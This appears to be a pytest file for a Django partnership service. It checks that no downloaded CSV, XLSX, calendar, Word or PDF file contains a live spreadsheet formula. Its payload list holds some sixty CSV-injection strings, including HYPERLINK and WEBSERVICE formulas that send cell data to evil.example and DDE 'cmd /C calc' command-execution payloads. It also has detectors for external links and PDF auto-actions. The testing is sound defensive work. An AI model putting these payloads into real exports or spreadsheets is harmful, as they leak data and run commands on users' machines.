"""Whatever a partner types, no file that the service hands out has a formula in it.

Sixty texts of the kinds that spreadsheet programs run are put in every free text, and every file
is opened and looked through cell by cell. What can be read in again gives the texts back.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from typing import Any
from uuid import uuid4
from xml.etree import ElementTree

import icalendar
import pypdf
import pytest
from django.db import transaction
from django.utils import timezone
from factories import everything as who
from factories.everything import Everything, make_everything, parts_of_routes
from factories.register import club, sheet_of

from sightline.analysis.provision import Visibility
from sightline.service.accounts.policy import POLICY
from sightline.service.audit.models import Head
from sightline.service.deliveries.actions import Held, record_delivery
from sightline.service.entry.actions import add_comment
from sightline.service.entry.models import Audience
from sightline.service.partners.actions import join_organisation
from sightline.service.partners.models import Alias, Contact, Organisation, Team
from sightline.service.register.actions import import_rows
from sightline.service.register.models import Activity
from sightline.service.sheets.actions import commit_upload, send_sheet
from sightline.service.sheets.models import Upload
from sightline.service.watching.models import Watch

pytestmark = pytest.mark.django_db
STARTS = "=+-@\t\r\n＝＋－＠"
PAYLOADS = (
    # plain ones, in each form of the first letter
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "＝1+1", "＋1+1", "－1+1", "＠SUM(1,1)",
    "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "\t+1", "\n-1", "\r@A1", "=A1",
    # what fetches or runs something
    '=HYPERLINK("http://evil.example/?x="&A1,"Read more")',
    '=WEBSERVICE("http://evil.example/"&A1)', '=IMPORTXML("http://evil.example","//a")',
    '=IMPORTDATA("http://evil.example")', '=IMAGE("http://evil.example/a.png")',
    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@cmd|' /C calc'!A0",
    "=DDE(\"cmd\",\"/C calc\",\"x\")", "=MSEXCEL|'\\..\\..\\Windows\\cmd.exe /c calc'!''",
    "-2+3+cmd|' /C calc'!A0", "=rundll32|'URL.dll,OpenURL calc.exe'!A", '=EXEC("calc")',
    "=CALL(\"Shell32\",\"ShellExecuteA\",\"JJCCCCJ\",0,\"open\",\"calc\",0,0,1)",
    '=REGISTER.ID("kernel32","Beep")', '@IMPORTRANGE("a","b")', "+HYPERLINK(A1)",
    # something before them that a program may drop
    " =1+1", "  +1+1", "\ufeff=1+1", "\u200b=1+1", "\u00a0=1+1",
    "\u3000=1+1", "\u2003@A1", "'=1+1", "''=1+1", "'''+1",
    '"=1+1"', '"=1+1', "'\"=1+1", "`=1+1", "´=1+1",
    # something that would close a cell or a line, and begin another
    'x","=1+1', "x,=1+1", "x;=1+1", "x\t=1+1", "x\r\n=1+1", 'x"\r\n"=1+1', "x|=1+1",
    # marks of other writings
    "Police;=1+1", "Police; =1+1;+A1", 'x;"=1+1"', "a\tb\t@A1", "x;\u200b=1", "x;'=1+1",
    "one\n=1+1\n- two", 'a,x;\n"=1+1', "x;\u3000＝1",
    "=\u0661+1", "\u0661=\u0662", "−1+1", "﹢1+1", "﹣1", "=Σ(1)", "+\u0967", "=\U0001f4a3()",
)  # fmt: skip
LINES = ("\n", "\r", "\t")


def one_line(text: str) -> str:
    """The text as it can stand in a name: a name is one line, and ends no list."""
    return " ".join(re.sub(r"[;\s]+", " ", text).split())


def tidied(text: str) -> str:
    """The text as it is meant: line ends alike, nothing blank around it."""
    return text.replace("\r\n", "\n").replace("\r", "\n").strip()


@dataclass(frozen=True)
class File:
    """A file as it was handed out."""

    address: str
    content_type: str
    content: bytes


@pytest.fixture(scope="module")
def made(django_db_setup, django_db_blocker, tmp_path_factory) -> Iterator[Everything]:
    """One of everything, and the texts in every field; made once, taken away afterwards."""
    with django_db_blocker.unblock(), transaction.atomic():
        everything = make_everything(tmp_path_factory.mktemp("county"))
        _put_everywhere(everything)
        yield everything
        transaction.set_rollback(True)


def _put_everywhere(made: Everything) -> None:
    now, lead = timezone.now(), made.people[who.LEAD]
    area = str(made.parts["code"])
    rows = [
        club(
            reference=f"{one_line(text)} {number}", name=one_line(text), status=club().status,
            organisation=f"{one_line(text)} of {number}", description=text, eligibility=text,
            referral=text, timetable=text, depends_on=text,
            partners=(f"{one_line(text)} with {number}",), funders=(f"{one_line(text)} pays",),
            areas_served=(area,), delivery_area=area, places=(), postcode="",
            visibility=list(Visibility)[number % 3],
        )
        for number, text in enumerate(PAYLOADS)
    ]  # fmt: skip
    import_rows(rows, by=None, now=now)
    for number, text in enumerate(PAYLOADS):
        name = one_line(text)
        found = Organisation.objects.get(name=f"{name} of {number}")
        Organisation.objects.filter(pk=found.pk).update(kind_words=name, office_postcode="=A1")
        Alias.objects.create(organisation=found, name=name, plain_name=f"plain {number}")
        Team.objects.create(organisation=found, name=name)
        Contact.objects.create(organisation=found, name=name, role=name, phone=name[:40],
                               visibility="partnership")  # fmt: skip
        join_organisation(user=lead, organisation=found, by=None, now=now, role="lead")
        record = Activity.objects.get(organisation=found)
        record_delivery(
            activity_id=record.pk, held=Held(now.date(), place=name, people=12), by=lead, now=now,
            entry_key=uuid4(), today=now.date(),
        )  # fmt: skip
        if number < 20:  # as many as one person may write in an hour
            add_comment(activity_id=record.pk, text=text, audience=Audience.PARTNERSHIP, by=lead,
                        key=uuid4(), now=now)  # fmt: skip
        Watch.objects.create(user=lead, kind="question", target=f"q={number} {name}",
                             since_event=1, since=now.date())  # fmt: skip
    _send_a_sheet(made, now)


def _send_a_sheet(made: Everything, now: Any) -> None:
    """A sheet with the texts in cells, wrong in every row, so that a marked copy tells of each."""
    rows = [
        {"reference": f"W-{number}", "activity": text, "organisation": text, "themes": text,
         "status": "current", "description": text, "partners": text}
        for number, text in enumerate(PAYLOADS)
    ]  # fmt: skip
    made.parts["upload_id"] = send_sheet(
        content=sheet_of(*rows), file_name="=cmd.csv", by=made.people[who.LEAD], now=now,
        today=now.date(),
    )  # fmt: skip


KINDS = ("csv", "xlsx", "json", "geojson", "ics")
FILES = ("text/csv", "application/vnd.openxmlformats", "application/json", "application/geo+json",
         "text/calendar")  # fmt: skip


def files(made: Everything, actor: str) -> Iterator[File]:
    """Every file that the service hands to that actor, found by walking all of its addresses."""
    client = made.client_of(actor)
    for route, parts in parts_of_routes().items():
        kinds = {"kind", "form"} & set(parts)
        for kind in KINDS if kinds else ("",):
            made.parts |= dict.fromkeys(kinds, kind)
            for asked in ("", "?per=theme", "?q=1"):
                address = made.address_of(route)
                answer = client.get(address + (asked if "?" not in address else ""))
                content_type = answer.headers.get("Content-Type", "")
                if answer.status_code == 200 and content_type.startswith(FILES):
                    yield File(address + asked, content_type, answer.content)


def is_live(text: str) -> bool:
    """Whether a spreadsheet program might take a cell of a CSV file for a formula.

    Some drop blanks before it, or a mark of the order of bytes; they must find no sign then.
    """
    return text[:1] in tuple(STARTS) or text.lstrip("\ufeff\u200b").lstrip()[:1] in tuple(STARTS)


def csv_cells(file: File) -> Iterator[str]:
    """The cells of a CSV file, by each of the marks that programs take for the end of a cell."""
    text = file.content.decode("utf-8-sig")
    for line in csv.reader(io.StringIO(text, newline=""), strict=True):
        yield from line
    for mark in ";\t|":  # the settings of another country, or a hand that chose wrongly
        for line in csv.reader(io.StringIO(text, newline=""), delimiter=mark):
            yield from line


IN_SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def xlsx_faults(content: bytes) -> list[str]:
    """What a workbook has that could run, fetch or hide something."""
    faults = []
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        for name in parts.namelist():
            if re.search("comment|externalLink|connection|query|vba|drawing|embed|pivot|custom",
                         name, re.IGNORECASE):  # fmt: skip
                faults.append(name)
            if not name.endswith((".xml", ".rels")):
                continue
            tree = ElementTree.fromstring(parts.read(name))  # noqa: S314 - our own file
            for node in tree.iter():
                tag = node.tag.removeprefix(IN_SHEET)
                if tag in ("f", "definedName", "hyperlink", "cfRule"):
                    faults.append(f"{name}: {tag} {node.text!r}")
                if tag == "sheet" and node.get("state", "visible") != "visible":
                    faults.append(f"hidden sheet {node.get('name')!r}")
                if tag in ("row", "col") and node.get("hidden") in ("1", "true"):
                    faults.append(f"{name}: hidden {tag}")
                if tag == "c" and node.get("t", "n") not in ("s", "inlineStr", "n", "str"):
                    faults.append(f"{name}: a cell of type {node.get('t')}")
                if node.get("TargetMode") == "External":
                    faults.append(f"{name}: leads to {node.get('Target')}")
    return faults


def texts_in(said: Any) -> Iterator[str]:
    """Every text in an answer of JSON."""
    if isinstance(said, Mapping):
        yield from (text for each in said.values() for text in texts_in(each))
    elif isinstance(said, list):
        yield from (text for each in said for text in texts_in(each))
    elif isinstance(said, str):
        yield said


def test_there_are_sixty_texts_of_every_kind():
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 60
    assert {text[0] for text in PAYLOADS} >= set(STARTS)


@pytest.mark.parametrize("actor", [who.LEAD, who.UNIT, who.STRANGER])
def test_no_file_has_a_live_formula(made, actor):
    live, cells, kinds = [], 0, set()
    for file in files(made, actor):
        kinds.add(file.content_type.split(";")[0])
        if file.content_type.startswith("text/csv"):
            for cell in csv_cells(file):
                cells += 1
                if is_live(cell):
                    live.append((file.address, cell))
        elif "spreadsheetml" in file.content_type:
            live += [(file.address, fault) for fault in xlsx_faults(file.content)]
        elif file.content_type.startswith("text/calendar"):
            live += [(file.address, fault) for fault in calendar_faults(file.content)]
        elif "wordprocessingml" in file.content_type:
            live += [(file.address, fault) for fault in fields_of_word(file.content)]
        elif file.content_type == "application/pdf":
            live += [(file.address, fault) for fault in actions_of_pdf(file.content)]
        else:
            cells += sum(1 for _ in texts_in(json.loads(file.content)))
    assert live == []
    assert len(kinds) >= 5
    assert cells > (200 if actor == who.STRANGER else 2_000)


def fields_of_word(content: bytes) -> list[str]:
    """What Word would work out, but for the numbers of captions."""
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        texts = [parts.read(name).decode() for name in parts.namelist() if name.endswith(".xml")]
    asked = re.findall(r"<w:instrText[^>]*>([^<]*)|w:instr=\"([^\"]*)", "".join(texts))
    words = ["".join(pair).strip() for pair in asked]
    return [word for word in words if word and not word.startswith("SEQ ")]


def actions_of_pdf(content: bytes) -> list[str]:
    """What a reader would run or open by itself."""
    pages = pypdf.PdfReader(io.BytesIO(content))
    found = [name for name in ("/OpenAction", "/AA") if name in pages.trailer["/Root"]]
    return found + [name for name in ("/JavaScript", "/Launch") if name.encode() in content]


KNOWN_LINES = frozenset({
    "BEGIN", "END", "UID", "DTSTAMP", "DTSTART", "DTEND", "SUMMARY", "DESCRIPTION", "URL",
    "LOCATION", "CATEGORIES", "RRULE", "LAST-MODIFIED", "SEQUENCE", "TRANSP", "STATUS", "VERSION",
    "PRODID", "CALSCALE", "METHOD", "NAME", "X-WR-CALNAME", "X-WR-CALDESC", "REFRESH-INTERVAL",
    "X-PUBLISHED-TTL", "X-WR-TIMEZONE", "TZID", "SOURCE", "COLOR",
})  # fmt: skip


def calendar_faults(content: bytes) -> list[str]:
    """Lines of a calendar that no part of ours writes: a text that began a line of its own."""
    icalendar.Calendar.from_ical(content)
    lines = re.sub(rb"\r\n[ \t]", b"", content).decode().split("\r\n")
    return [line for line in lines if line and re.split("[:;]", line)[0] not in KNOWN_LINES]


def test_the_files_that_are_looked_through_are_all_there_are(made):
    """A new route with a kind in its address is walked by itself; a file of another kind fails."""
    walked = {file.address.split("?")[0] for file in files(made, who.LEAD)}
    walked |= {file.address.split("?")[0] for file in files(made, who.UNIT)}
    for route, parts in parts_of_routes().items():
        if {"kind", "form"} & set(parts) or "download" in route:
            made.parts |= dict.fromkeys({"kind", "form"} & set(parts), "csv")
            assert made.address_of(route) in walked, route
    assert POLICY.keys() == parts_of_routes().keys()


def records() -> Mapping[str, Any]:
    return {each.reference: each.facts() for each in Activity.objects.whole()}


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_what_is_read_in_again_gives_the_texts_back(made, kind):
    """A download that is sent in unedited changes nothing: each text is what it was."""
    unit, now, before = made.people[who.UNIT], timezone.now(), records()
    with transaction.atomic():
        content = made.client_of(who.UNIT).get(f"/activities/download.{kind}").content
        key = send_sheet(content=content, file_name=f"again.{kind}", by=unit, now=now,
                         today=now.date())  # fmt: skip
        reading = Upload.objects.get(pk=key).as_read()
        assert [str(problem) for problem in reading.problems if "reject" in problem.weight] == []
        commit_upload(upload_id=key, seen_event=Head.objects.get().number, by=unit, now=now)
        outcome, after = Upload.objects.get(pk=key).outcome, records()
        transaction.set_rollback(True)
    assert outcome["added"] == outcome["refused"] == 0
    for number, text in enumerate(PAYLOADS):
        reference = f"{one_line(text)} {number}"
        found, was = after[reference], before[reference]
        for name in ("name", "organisation", "partners", "funders"):
            assert getattr(found, name) == getattr(was, name), (name, text)
        for name in ("description", "eligibility", "referral", "timetable", "depends_on"):
            assert getattr(found, name) == tidied(getattr(was, name)), (name, text)


def test_a_json_file_gives_every_text_as_it_was(made):
    answer = made.client_of(who.UNIT).get("/activities/download.json").json()
    told = {each["reference"]: each for each in answer["activities"]}
    for number, text in enumerate(PAYLOADS):
        found = told[f"{one_line(text)} {number}"]
        assert found["name" if "name" in found else "activity"] == one_line(text)
        assert tidied(found["description"]) == tidied(text)


def test_the_marked_copy_gives_every_cell_as_text(made):
    answer = made.client_of(who.LEAD).get(made.address_of("sheets:marked"))
    assert answer.status_code == 200
    assert xlsx_faults(answer.content) == []


def test_the_look_for_formulas_finds_them():
    """The tests above can fail: what they look for is found where it is."""
    assert all(is_live(text) for text in PAYLOADS if text[0] in STARTS or text[0] == " ")
    assert not any(is_live(text) for text in ("Club", "'=1+1", "x=1", "5 - 3", ""))
    made_badly = io.BytesIO()
    import xlsxwriter

    book = xlsxwriter.Workbook(made_badly)
    sheet = book.add_worksheet("one")
    sheet.write(0, 0, "=1+1")
    sheet.write(1, 0, "http://evil.example")
    sheet.write_comment(2, 0, "hidden")
    book.add_worksheet("two").hide()
    book.define_name("n", "=1")
    book.close()
    said = " ".join(xlsx_faults(made_badly.getvalue()))
    for word in (": f ", "hyperlink", "comment", "hidden sheet", "definedName", "leads to"):
        assert word in said, said
